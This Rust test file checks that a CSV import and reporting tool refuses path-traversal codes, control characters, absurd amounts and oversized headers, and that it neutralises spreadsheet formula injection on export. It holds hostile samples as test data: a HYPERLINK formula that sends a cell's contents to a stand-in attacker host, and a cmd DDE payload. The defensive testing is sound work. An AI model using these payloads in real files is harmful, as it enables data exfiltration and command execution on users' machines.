//! Hostile files and hostile data through the real binary (issue 8): codes
//! that could name a path, statements of such codes already in a database,
//! CSV formula injection, absurd figures, long lines, OS errors.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use bianmin::store::Store;

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/imports")
        .join(name)
}

fn bianmin(db: &Path) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_bianmin"));
    cmd.arg("--db")
        .arg(db)
        .args(["--lang", "en"])
        .env_remove("BIANMIN_DB")
        .env_remove("BIANMIN_CARD_KEY");
    cmd
}

fn ok(out: Output) -> String {
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

fn import(db: &Path, kind: &str, file: &Path) -> Output {
    bianmin(db).args(["import", kind]).arg(file).output().unwrap()
}

/// The error of an import that must fail with exit status 2.
fn refused(out: Output) -> String {
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    stderr
}

/// A database with the fixtures' registry (stations S001–S006, branches
/// B01 and B02, people M01, M02, P01–P03).
fn registry_db(dir: &Path) -> PathBuf {
    let db = dir.join("county.db");
    ok(import(&db, "stations", &fixture("stations.csv")));
    db
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

const STATION_HEADER: &str = "站点编码,站点名称,站点类型,支局编码,支局名称,支局类型,支局长工号,维护人员工号\n";

#[test]
fn codes_that_could_name_a_path_are_refused_in_every_import_with_line_and_column() {
    let dir = tempfile::tempdir().unwrap();
    let db = registry_db(dir.path());
    let good = "S101,甲站,农村,B01,临邑支局,农村,M01,P01\n";
    let padding: String = (0..2000)
        .map(|i| format!("P{i},S001,2026-10-01 08:00,移动,10\n"))
        .collect();
    assert!(padding.len() > 64 * 1024);
    let cases = [
        (
            "stations",
            format!("{STATION_HEADER}{good}../escaped,乙站,农村,B01,临邑支局,农村,M01,P01\n"),
            "line 3, column 站点编码: \"../escaped\" contains ..",
        ),
        (
            "stations",
            format!("{STATION_HEADER}{good}S102,乙站,农村,/tmp/x,临邑支局,农村,M01,P01\n"),
            "line 3, column 支局编码: \"/tmp/x\" contains /",
        ),
        (
            "stations",
            format!("{STATION_HEADER}{good}S102,乙站,农村,B01,临邑支局,农村,M\\01,P01\n"),
            "line 3, column 支局长工号: \"M\\\\01\" contains \\",
        ),
        (
            "stations",
            format!("{STATION_HEADER}{good}S102,乙站,农村,B01,临邑支局,农村,M01,\"P\x1b[2J01\"\n"),
            "line 3, column 维护人员工号: \"P\\u{1b}[2J01\" holds a control or invisible character (\\u{1b})",
        ),
        (
            "plans",
            "支局编码,月份,计划\nB01,2026-10,3\n..\\B02,2026-10,3\n".to_string(),
            "line 3, column 支局编码: \"..\\\\B02\" contains ..",
        ),
        (
            // A NUL in the first 64 KiB makes the file "binary"; further on
            // it reaches the cell.
            "payments",
            format!("交易流水号,站点编码,交易时间,业务类型,金额\n{padding}P2,S0\u{0}01,2026-10-01 08:00,移动,10\n"),
            "line 2002, column 站点编码: \"S0\\001\" holds a control or invisible character (\\u{0})",
        ),
        (
            "cards",
            "交易流水号,站点编码,交易时间,卡号\nC1,../../etc/S001,2026-10-01 08:00,6217001234567890123\n".to_string(),
            "line 2, column 站点编码: \"../../etc/S001\" contains ..",
        ),
        (
            "referrals",
            "转介编号,站点编码,日期,转介类型\nR1,S001,2026-10-02,惠农通\nR2,S001/..,2026-10-02,惠农通\n".to_string(),
            "line 3, column 站点编码: \"S001/..\" contains ..",
        ),
    ];
    for (kind, text, expected) in cases {
        let before = std::fs::read(&db).unwrap();
        let file = write(dir.path(), &format!("{kind}.csv"), &text);
        let stderr = refused(import(&db, kind, &file));
        assert!(stderr.contains(expected), "{kind}: expected {expected:?} in\n{stderr}");
        assert!(stderr.contains("nothing was imported"), "{stderr}");
        assert_eq!(std::fs::read(&db).unwrap(), before, "{kind}: the database changed");
    }
}

/// Every file under `root`, as paths relative to it.
fn files_under(root: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                out.push(path.strip_prefix(root).unwrap().to_path_buf());
            }
        }
    }
    out.sort();
    out
}

#[test]
fn statements_of_hostile_codes_already_in_the_database_stay_in_the_folder() {
    let dir = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let db = registry_db(dir.path());
    let absolute = elsewhere.path().join("abs").display().to_string();
    let hostile = [
        "../escaped".to_string(),
        "../../escaped2".to_string(),
        absolute.clone(),
        "..\\win".to_string(),
        "sub/dir".to_string(),
        "..".to_string(),
        ".hidden".to_string(),
        "CON".to_string(),
        "a\u{0}b".to_string(),
        "x\u{202e}txt.exe".to_string(),
    ];
    {
        // A database written by hand or by an older bianmin: no import
        // checked these codes.
        let store = Store::open(&db).unwrap();
        for (i, code) in hostile.iter().enumerate() {
            store
                .conn()
                .execute(
                    "INSERT INTO stations (id, name, kind, branch_id, maintainer_id) VALUES (?1, ?2, 'rural', 'B01', 'P01')",
                    (code, format!("站{i}")),
                )
                .unwrap();
        }
    }
    let out_dir = dir.path().join("out");
    for format in ["text", "html"] {
        ok(bianmin(&db)
            .args([
                "report",
                "--month",
                "2026-10",
                "--statements",
                "--statement-format",
                format,
                "--output",
            ])
            .arg(&out_dir)
            .output()
            .unwrap());
    }
    let everything = files_under(dir.path());
    let outside: Vec<_> = everything
        .iter()
        .filter(|p| !p.starts_with("out") && !p.to_string_lossy().starts_with("county.db"))
        .collect();
    assert!(outside.is_empty(), "written outside the folder: {outside:?}");
    assert!(files_under(elsewhere.path()).is_empty(), "written at the absolute path");
    let written = files_under(&out_dir);
    assert_eq!(written.len(), 2 * (6 + hostile.len()), "{written:?}");
    for path in &written {
        assert_eq!(path.components().count(), 1, "{path:?}");
        let name = path.to_string_lossy();
        assert!(!name.starts_with('.') && !name.contains(".."), "{name}");
    }
    assert!(
        out_dir.join("S001-2026-10.txt").exists(),
        "ordinary codes keep their names"
    );
}

#[test]
fn os_errors_are_said_once() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("d.db");
    let missing = dir.path().join("MISSING.csv");
    let stderr = refused(import(&db, "payments", &missing));
    assert_eq!(stderr.matches("(os error 2)").count(), 1, "{stderr}");
    assert!(stderr.contains("MISSING.csv: cannot open the file"), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    // A database that cannot be created, and a policy file that is not there.
    let blocked = dir.path().join("file");
    std::fs::write(&blocked, "").unwrap();
    for args in [
        vec![
            "--db".to_string(),
            blocked.join("sub/d.db").display().to_string(),
            "report".into(),
        ],
        vec!["--policy".to_string(), missing.display().to_string(), "report".into()],
    ] {
        let out = Command::new(env!("CARGO_BIN_EXE_bianmin"))
            .args(&args)
            .env_remove("BIANMIN_DB")
            .output()
            .unwrap();
        let stderr = refused(out);
        assert_eq!(stderr.matches("(os error").count(), 1, "{args:?}: {stderr}");
    }
}

#[test]
fn a_50_mb_header_line_is_quoted_in_a_few_hundred_characters() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("d.db");
    // One 50 MB header cell, and a header of 200,000 columns.
    let one_cell = format!("交易流水号,站点编码,{}\nP1,S001,x\n", "金".repeat((50 << 20) / 3));
    let many: Vec<String> = (0..200_000).map(|i| format!("列{i}")).collect();
    let many_columns = format!("交易流水号,{}\n", many.join(","));
    for text in [one_cell, many_columns] {
        let file = write(dir.path(), "huge-header.csv", &text);
        let stderr = refused(import(&db, "payments", &file));
        assert!(
            stderr.contains("missing column"),
            "{}",
            &stderr[..stderr.len().min(2000)]
        );
        assert!(stderr.len() < 1000, "{} bytes: {}", stderr.len(), &stderr[..2000]);
        assert!(stderr.contains('…'), "{stderr}");
    }
}

#[test]
fn absurd_amounts_and_counts_are_refused_with_the_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = registry_db(dir.path());
    let cases = [
        (
            "payments",
            "交易流水号,站点编码,交易时间,业务类型,金额\nP1,S001,2026-10-01 08:00,移动,10\nP2,S001,2026-10-01 08:00,移动,\"92,233,720,368,547\"\n",
            "line 3, column 金额: \"92,233,720,368,547\" is more than 1000000 yuan",
        ),
        (
            "cards",
            "交易流水号,站点编码,交易时间,卡号,金额\nC1,S001,2026-10-01 08:00,6217001234567890123,1000000.01\n",
            "line 2, column 金额: \"1000000.01\" is more than 1000000 yuan",
        ),
        (
            "plans",
            "支局编码,月份,计划\nB01,2026-10,18446744073709551547\n",
            "line 2, column 计划: \"18446744073709551547\" is more than 1000000",
        ),
        (
            "stations",
            "站点编码,站点名称,站点类型,支局编码,支局名称,支局类型,支局长工号,维护人员工号,村户数\nS201,甲站,农村,B01,临邑支局,农村,M01,P01,4294967296\n",
            "line 2, column 村户数: \"4294967296\" is more than 1000000",
        ),
    ];
    for (kind, text, expected) in cases {
        let file = write(dir.path(), &format!("{kind}.csv"), text);
        let stderr = refused(import(&db, kind, &file));
        assert!(stderr.contains(expected), "{kind}: expected {expected:?} in\n{stderr}");
    }
}

#[test]
fn formulas_in_names_are_neutralised_in_csv_exports() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("county.db");
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "-x",
        "-1",
    ];
    let mut text = STATION_HEADER.to_string();
    for (i, name) in names.iter().enumerate() {
        let quoted = name.replace('"', "\"\"");
        text.push_str(&format!("S{i},\"{quoted}\",农村,B01,\"=1+1\",农村,M01,P01\n"));
    }
    let file = write(dir.path(), "stations.csv", &text);
    ok(import(&db, "stations", &file));
    for table in ["stations", "branches"] {
        let csv = ok(bianmin(&db)
            .args(["report", "--month", "2026-10", "--format", "csv", "--table", table])
            .output()
            .unwrap());
        let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
        for record in reader.records() {
            let record = record.unwrap();
            for cell in record.iter() {
                let first = cell.chars().next();
                let formula = matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
                    || (first == Some('-') && cell.parse::<f64>().is_err());
                assert!(!formula, "{table}: a cell a spreadsheet would run: {cell:?}\n{csv}");
            }
        }
        if table == "stations" {
            for name in &names[..4] {
                assert!(
                    csv.contains(&format!("'{}", name.replace('"', "\"\""))),
                    "{name} not neutralised:\n{csv}"
                );
            }
            assert!(csv.contains(",-1,"), "a number stays a number:\n{csv}");
        } else {
            assert!(csv.contains("'=1+1"), "{csv}");
        }
    }
}
